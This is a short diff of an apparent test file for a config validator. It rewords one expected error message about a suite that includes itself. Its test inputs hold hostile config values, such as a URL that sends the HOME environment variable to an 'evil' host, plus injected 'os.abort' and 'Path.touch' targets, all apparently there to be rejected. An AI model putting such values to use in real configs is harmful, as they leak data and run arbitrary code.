@@ -306,7 +306,7 @@ CALLED = "hydra:\n  callbacks:\n    x:\n      _target_: pathlib.Path.touch\n    
         ("grids:\n  a:\n    shards: https://evil/${oc.env:HOME}\n", "in which .* stands for nothing"),
         ("grids:\n  a:\n    measure: {cka: {_target_: os.abort}}\n", "expected a value or a list of values"),
         ("grids:\n  a:\n    test: [shortcut, augmentation]\n", "a run has one test"),
-        ("defaults: [mine]\ngrids:\n  a:\n    test: shortcut\n", "suite=mine: mine takes in mine, which never ends"),
+        ("defaults: [mine]\ngrids:\n  a:\n    test: shortcut\n", "suite=mine: mine includes mine, which never ends"),
         (
             "defaults:\n- /hydra/launcher: joblib\ngrids:\n  a:\n    test: shortcut\n",
             "expected the names of other suites",
